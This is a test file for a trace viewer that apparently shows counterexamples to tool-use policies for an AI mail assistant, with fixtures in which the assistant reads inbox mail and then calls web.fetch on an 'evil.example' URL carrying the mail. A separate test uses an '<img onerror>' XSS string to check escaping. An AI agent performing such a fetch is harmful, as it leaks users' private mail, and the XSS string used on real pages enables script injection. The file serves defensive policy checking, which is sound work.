// @vitest-environment happy-dom
/** Tests the trace view in a page as a person uses it: reading, clicking and using the keyboard. */
import { render } from 'preact';
import { act } from 'preact/test-utils';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { App } from '../../client/trace/app.js';
import { sessionContent } from '../../server/wording/session-content.js';
import type { FromView, RepairsState, SavedView, SessionContent } from '../../client/trace/messages.js';
import type { PolicyResult, Repair, SessionReasons, ShowSessionParams } from '../../server/lsp/protocol.js';
import {
    counterexample,
    outsideClaim,
    repairedResult,
    result,
    startClaim,
    uri,
    violatedClaim
} from './fixtures/results.js';

const claim: ShowSessionParams = { uri, kind: 'claim', name: violatedClaim.name };
const contentOf = (of: PolicyResult, before?: SessionContent, subject = claim): SessionContent =>
    sessionContent(subject, { uri, version: 1, state: 'done', result: of }, before);

let root: HTMLElement;
let sent: FromView[];
let kept: SavedView | undefined;

beforeEach(() => {
    root = document.body.appendChild(document.createElement('div'));
    sent = [];
    kept = undefined;
});

afterEach(() => {
    render(null, root);
    root.remove();
});

async function open(saved?: SavedView): Promise<void> {
    const send = (message: FromView): number => sent.push(message);
    await act(() => render(<App saved={saved} send={send} save={(state) => (kept = state)} />, root));
}

async function receive(content: SessionContent): Promise<void> {
    await act(() => {
        window.dispatchEvent(new MessageEvent('message', { data: { type: 'content', content } }));
    });
}

async function receiveRepairs(repairs: RepairsState): Promise<void> {
    await act(() => {
        window.dispatchEvent(new MessageEvent('message', { data: { type: 'repairs', repairs } }));
    });
}

async function press(key: string): Promise<void> {
    await act(() => {
        (document.activeElement ?? root).dispatchEvent(
            new KeyboardEvent('keydown', { key, bubbles: true, cancelable: true })
        );
    });
}

const all = (selector: string): HTMLElement[] => [...root.querySelectorAll<HTMLElement>(selector)];
const text = (selector: string): string => all(selector)[0]?.textContent ?? '';
const selectedStep = (): string => text('.step.selected .node') || 'start';

describe('a counterexample', () => {
    beforeEach(async () => {
        await open();
        expect(sent).toEqual([{ type: 'ready' }]);
        await receive(contentOf(result));
        sent.length = 0;
    });

    test('shows the claim, the verdict and the sentence', () => {
        expect(text('.verdict')).toBe('violated');
        expect(text('h1')).toBe('mail leaves only through a person');
        expect(text('.claim-text')).toBe('never external tools after mail.read unless approved by reviewer');
        expect(text('.header .summary')).toBe(counterexample.summary);
        expect(text('.basis')).toContain('No shorter session breaks it. Searched: 3 states');
    });

    test('does not call a session a shortest one if no search ended at it', async () => {
        await receive({ ...contentOf(result), mayBeShorter: true });
        expect(text('.basis')).toContain('There may be a shorter session. Searched: 3 states');
    });

    test('shows each step with decision, rule, change and mark', () => {
        const steps = all('.step:not(.start)').map((step) => ({
            call: step.querySelector('.call')?.textContent,
            decision: step.querySelector('.decision')?.textContent,
            rule: step.querySelector('.rule-link code')?.textContent,
            changes: [...step.querySelectorAll('.chip')].map((chip) => chip.textContent),
            mark: step.querySelector('.mark, .judged-mark')?.textContent
        }));
        const rule = 'allow assistant: mail.read, mail.draft, web.fetch, web.post';
        expect(steps).toEqual([
            {
                call: 'mail.read(folder: "inbox")',
                decision: 'allowed',
                rule,
                changes: [
                    '+added: assistant carries private',
                    '+added: assistant carries untrusted',
                    '+added: once mail.read'
                ],
                mark: 'needed to break the claim'
            },
            {
                call: 'web.fetch(url: "https://evil.example/?q=the+mail")',
                decision: 'allowed',
                rule,
                changes: [],
                mark: 'It breaks here'
            }
        ]);
    });

    test('brings the mark of the judged step into sight, and a step that is moved to as a whole', async () => {
        const shown: string[] = [];
        const element = HTMLElement.prototype as { scrollIntoView?: (this: HTMLElement) => void };
        element.scrollIntoView = function () {
            shown.push(this.className.split(' ')[0]!);
        };
        try {
            await act(() => render(null, root));
            await open();
            await receive(contentOf(result));
            expect([...new Set(shown)]).toEqual(['judged-mark']);
            shown.length = 0;
            all('[aria-current="step"]')[0]!.focus();
            await press('ArrowUp');
            expect([...new Set(shown)]).toEqual(['step']);
        } finally {
            delete element.scrollIntoView;
        }
    });

    test('starts at the judged step; arrows move, and the editor follows', async () => {
        expect(selectedStep()).toBe('2');
        all('[aria-current="step"]')[0]!.focus();
        await press('ArrowUp');
        expect(selectedStep()).toBe('1');
        expect(document.activeElement).toBe(all('[aria-current="step"]')[0]);
        expect(sent).toEqual([{ type: 'reveal', source: counterexample.steps[0]!.rules[0]!.source, focus: false }]);
        expect(text('.facts h2')).toBe('True after step 1');
        expect(all('.fact.new')).toHaveLength(3);
        await press('ArrowUp');
        expect(selectedStep()).toBe('start');
        expect(sent.at(-1)).toEqual({ type: 'unreveal' });
        await press('ArrowUp');
        expect(selectedStep()).toBe('start');
        await press('End');
        expect(selectedStep()).toBe('2');
        await press('Home');
        expect(selectedStep()).toBe('start');
    });

    test('Enter goes to the rule', async () => {
        all('[aria-current="step"]')[0]!.focus();
        await press('Enter');
        expect(sent).toEqual([{ type: 'reveal', source: counterexample.steps[1]!.rules[0]!.source, focus: true }]);
    });

    test('a click on a step selects it, on a rule or the claim goes there', async () => {
        await act(() => all('.step:not(.start)')[0]!.click());
        expect(selectedStep()).toBe('1');
        sent.length = 0;
        await act(() => all('.rule-link')[1]!.click());
        expect(selectedStep()).toBe('1');
        await act(() => all('.claim-text')[0]!.click());
        await act(() => all('.tool-button.copy')[0]!.click());
        expect(sent).toEqual([
            { type: 'reveal', source: counterexample.steps[1]!.rules[0]!.source, focus: true },
            { type: 'reveal', source: violatedClaim.source, focus: true },
            { type: 'copyMarkdown' }
        ]);
    });

    test('reports that it was copied', async () => {
        await act(() => {
            window.dispatchEvent(new MessageEvent('message', { data: { type: 'done', what: 'copy', text: 'Copied' } }));
        });
        expect(text('.tool-button.copy')).toBe('Copied');
        expect(text('[role="status"]')).toBe('Copied');
    });

    test('offers fixes first, and makes one only after it was shown', async () => {
        expect(text('.toolbar button')).toBe('Fix…');
        await act(() => all('.toolbar button.fix')[0]!.click());
        expect(sent.at(-1)).toEqual({ type: 'fix', on: true });
        const repair: Repair = {
            text: 'add: deny web.fetch when once mail.read',
            edits: [],
            rules: 1,
            word: 'holds',
            verdict: 'holds',
            scopes: [],
            alsoRepairs: ['another'],
            contradicts: [],
            changes: ['web.fetch: allowed -> denied'],
            lost: ['assistant can never call web.fetch'],
            perhapsLost: [],
            isComplete: true
        };
        await receiveRepairs({});
        expect(all('.repairs[aria-busy="true"]')).toHaveLength(1);
        await receiveRepairs({ repairs: [repair] });
        expect(all('.repair .chip').map(({ textContent }) => textContent)).toEqual([
            'holds',
            'web.fetch: allowed -> denied',
            'also makes "another" hold',
            'assistant can never call web.fetch'
        ]);
        expect(all('.repair .primary')).toHaveLength(0);
        await act(() => all('.repair .button')[0]!.click());
        expect(sent.at(-1)).toEqual({ type: 'previewRepair', repair: 0 });
        await receiveRepairs({ repairs: [repair], previewed: 0 });
        await act(() => all('.repair .primary')[0]!.click());
        expect(sent.at(-1)).toEqual({ type: 'applyRepair', repair: 0 });
        await receiveRepairs({ repairs: [], problem: 'There is none.' });
        expect(text('.repairs [role="status"]')).toBe('There is none.');
    });

    test('says at the selected step why no rule stops it, and what breaks the claim', async () => {
        const rule = counterexample.steps[0]!.rules[0]!;
        const reasons: SessionReasons = {
            steps: [
                null,
                {
                    passed: [
                        {
                            rule,
                            outcome: 'does not apply',
                            parts: [{ text: 'amount > 50', truth: 'false', values: ['amount: 3'] }]
                        }
                    ],
                    others: [rule]
                }
            ],
            claim: [{ text: 'once mail.read', truth: 'true', values: [] }]
        };
        await act(() => {
            window.dispatchEvent(new MessageEvent('message', { data: { type: 'reasons', reasons } }));
        });
        const told = all('.step.selected .reasons').map(({ textContent }) => textContent);
        expect(told[0]).toContain('once mail.read is true');
        expect(told[1]).toContain('does not apply');
        expect(told[1]).toContain('amount > 50 is falseamount: 3');
        expect(told[1]).toContain('1 rule is about other calls');
        await act(() => all('.reasons .rule-link')[0]!.click());
        expect(sent.at(-1)).toEqual({ type: 'reveal', source: rule.source, focus: true });
        all('[aria-current="step"]')[0]!.focus();
        await press('ArrowUp');
        expect(all('.step.selected .reasons')).toHaveLength(0);
        // Another session has different reasons.
        const shorter = { ...counterexample, steps: counterexample.steps.slice(1) };
        await receive(contentOf({ ...result, claims: [{ ...violatedClaim, trace: shorter }] }));
        expect(all('.reasons')).toHaveLength(0);
    });

    test('is pinned, and says so', async () => {
        await act(() => all('.toolbar button.pin')[0]!.click());
        expect(sent.at(-1)).toEqual({ type: 'pin', on: true });
        await act(() => {
            window.dispatchEvent(new MessageEvent('message', { data: { type: 'pin', on: true } }));
        });
        expect(all('.toolbar button.pin[aria-pressed="true"]')).toHaveLength(1);
    });

    test('the toolbar is one tab stop, in which arrows move', async () => {
        const stops = (): string[] => all('.toolbar [tabindex="0"]').map((button) => button.textContent);
        expect(stops()).toEqual(['Fix…']);
        all('.toolbar button')[0]!.focus();
        await press('ArrowRight');
        expect(stops()).toEqual(['Replay']);
        expect(document.activeElement).toBe(all('.toolbar button')[1]);
    });

    test('a view that gets the focus starts at the selected step', async () => {
        await act(() => {
            window.dispatchEvent(new FocusEvent('focus'));
        });
        expect(document.activeElement).toBe(all('[aria-current="step"]')[0]);
    });

    test('is accessible: one tab stop, and a label with the marks', () => {
        const buttons = all('.step-button');
        expect(buttons.map((button) => button.tabIndex)).toEqual([-1, -1, 0]);
        // The accessible name contains the visible text (WCAG 2.5.3).
        expect(buttons[1]!.textContent).toBe(
            'Step 1 of 2: assistantcallsmail.read(folder: "inbox")allowed. needed: without this step, the claim would not be broken'
        );
        expect(all('ol[aria-describedby="keys"]')).toHaveLength(1);
        expect(text('#keys')).toContain('Enter opens the rule');
    });

    test('follows the policy: checking, then it holds', async () => {
        const before = contentOf(result);
        await receive(sessionContent(claim, { uri, version: 2, state: 'checking' }, before));
        expect(text('.freshness')).toBe('checking');
        expect(all('.step')).toHaveLength(3);
        await receive(contentOf(repairedResult, before));
        expect(text('.verdict')).toBe('holds');
        expect(text('.repaired')).toBe('Fixed: no session breaks this claim now.');
        expect(all('.before li').map((step) => step.textContent)).toEqual(
            counterexample.steps.map((step) => step.text)
        );
        expect(all('.step')).toHaveLength(0);
        expect(text('.basis')).toContain('All sessions of any length were searched');
    });

    test('keeps the selection while the session stays the same', async () => {
        await act(() => all('.step:not(.start)')[0]!.click());
        await receive(contentOf(result));
        expect(selectedStep()).toBe('1');
        const shorter = { ...counterexample, steps: counterexample.steps.slice(1) };
        await receive(contentOf({ ...result, claims: [{ ...violatedClaim, trace: shorter }] }));
        expect(selectedStep()).toBe('1');
        expect(text('.step.selected .call')).toContain('web.fetch');
    });
});

test('an impossible claim lists the obstacles', async () => {
    await open();
    await receive(contentOf(result, undefined, { uri, kind: 'claim', name: 'it can still answer mail' }));
    expect(text('.outcome .summary')).toBe('No session does it.');
    expect(text('.problems li')).toMatch(/^mail.draft is denied allow assistant: .*mail.guardrail:9$/);
});

test('a claim that stays open: what is beyond the search, and what helps', async () => {
    await open();
    const { source } = violatedClaim;
    const { trace: _, ...undecided } = {
        ...violatedClaim,
        verdict: 'undecided' as const,
        beyond: [{ what: 'totals', source, isSearched: true, isMore: false }],
        basis: {
            ...violatedClaim.basis,
            limit: 'the limit of 5 states',
            costs: {
                states: 5,
                parts: [{ what: 'count(s.t)', readers: [{ text: 'limit s.t to 40', source }], values: 4 }],
                others: 0
            }
        }
    };
    await receive(contentOf({ ...result, claims: [undecided] }));
    expect(text('.open')).toContain('totals');
    expect(text('.open')).toContain('What costs most, in the 5 states looked at:');
    expect(all('.open .rule-link code').map((each) => each.textContent)).toContain('limit s.t to 40');
    const buttons = all('.open .button');
    await act(() => buttons[0]!.click());
    await act(() => buttons[1]!.click());
    expect(sent.slice(-2)).toEqual([{ type: 'limits' }, { type: 'check' }]);
});

test('an unknown result is not shown as a verdict', async () => {
    await open();
    await receive(sessionContent(claim, { uri, version: 1, state: 'invalid' }));
    expect(text('.verdict')).toBe('not known');
    expect(text('.note')).toContain('errors');
    expect(text('.freshness')).toBe('as it stood before');
});

test('survives a reload', async () => {
    await open();
    await receive(contentOf(result));
    await act(() => all('.step:not(.start)')[0]!.click());
    const saved = kept;
    await act(() => render(null, root));
    await open(saved);
    expect(selectedStep()).toBe('1');
    expect(text('.verdict')).toBe('violated');
});

test('names and values of the author are text, never markup', async () => {
    await open();
    const name = '<img src=x onerror=alert(1)>';
    const trace = { ...counterexample, summary: '<b>bold</b>' };
    const subject: ShowSessionParams = { uri, kind: 'claim', name };
    await receive(contentOf({ ...result, claims: [{ ...violatedClaim, name, trace }] }, undefined, subject));
    expect(text('h1')).toBe(name);
    expect(text('.header .summary')).toBe('<b>bold</b>');
    expect(all('img')).toHaveLength(0);
});

test('an outside event is not a call, and no rule decides it', async () => {
    await open();
    await receive(contentOf({ ...result, claims: [outsideClaim] }, undefined, { ...claim, name: outsideClaim.name }));
    const [event] = all('.step:not(.start)');
    expect(event!.querySelector('.actor')?.textContent).toBe('from outside');
    expect(event!.querySelector('.call')?.textContent).toBe('ci.passed');
    expect(event!.querySelector('.decision')?.textContent).toBe('happened');
    expect(event!.querySelector('.decided')).toBeNull();
    expect(event!.querySelector('.step-button')?.textContent).toMatch(/^Step 1 of 2: from outside.*ci\.passed/);
    expect(all('.annotations li').map(({ textContent }) => textContent)).toEqual([
        '@severity(high)',
        '@owasp(ASI02, "b c")'
    ]);
});

test('a claim that is broken in the initial state breaks at the start', async () => {
    await open();
    await receive(contentOf({ ...result, claims: [startClaim] }, undefined, { ...claim, name: startClaim.name }));
    expect(all('.step')).toHaveLength(1);
    expect(text('.step.start.judged .judged-mark')).toBe('It breaks here');
    expect(text('.facts h2')).toBe('True at the start');
    expect(text('.fact')).toBe('nothing yet');
});

test('initial values are shown at the start, and the clock time at each step', async () => {
    const day = { date: '2026-01-10', second: 36_000, text: 'sat 2026-01-10 10:00' };
    const { trace } = violatedClaim;
    const start = { clock: day, epoch: 1_768_035_600, text: 'with user: "x", on sat 2026-01-10 10:00' };
    const steps = trace!.steps.map((step, index) => ({
        ...step,
        time: index * 60,
        clock: { ...day, second: 36_000 + index * 60, text: `sat 2026-01-10 10:0${index}` }
    }));
    await open();
    await receive(contentOf({ ...result, claims: [{ ...violatedClaim, trace: { ...trace!, start, steps } }] }));
    expect(text('.step.start .step-button')).toBe('Session startswith user: "x", on sat 2026-01-10 10:00');
    const times = all('.step .time');
    expect(times.map(({ textContent }) => textContent)).toEqual(steps.map(({ clock }) => clock.text));
    expect(times[1]!.title).toBe('1m after the start of the session');
});
